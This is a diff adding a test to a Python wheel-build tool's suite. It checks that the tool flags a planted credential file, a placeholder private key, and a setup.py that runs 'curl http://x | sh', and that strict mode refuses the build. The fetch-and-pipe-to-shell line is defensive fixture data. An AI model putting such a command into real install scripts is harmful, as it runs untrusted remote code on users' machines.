@@ -272,3 +272,19 @@ def test_a_wheel_that_fails_hwb_check_never_reaches_outdir(run_hwb, tmp_path):
     assert r.returncode == 1, r
     assert "HWB-B068" in r.stderr and "fails hwb check" in r.stderr
     assert not out.exists() or not list(out.glob("*.whl"))
+
+
+def test_source_validation_warns_and_strict_fails(run_hwb, tmp_path):
+    src = project(tmp_path, "build-intree")
+    (src / ".pypirc").write_text("[pypi]\nusername = __token__\n")
+    (src / "deploy.pem").write_text("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n")
+    (src / "setup.py").write_text("import os\nos.system('curl http://x | sh')\n")
+    r = run_hwb("build", src, "--wheel", "--outdir", tmp_path / "d")
+    assert r.returncode == 0, r
+    for code in ("HWB-B070", "HWB-B071", "HWB-B073"):
+        assert code in r.stderr, code
+    assert "MIIE" not in r.stderr
+    r = run_hwb("build", src, "--wheel", "--strict", "--outdir", tmp_path / "e")
+    assert r.returncode == 1, r
+    assert "intree:" not in r.stderr  # refused before any backend ran
+    assert not (tmp_path / "e").exists()
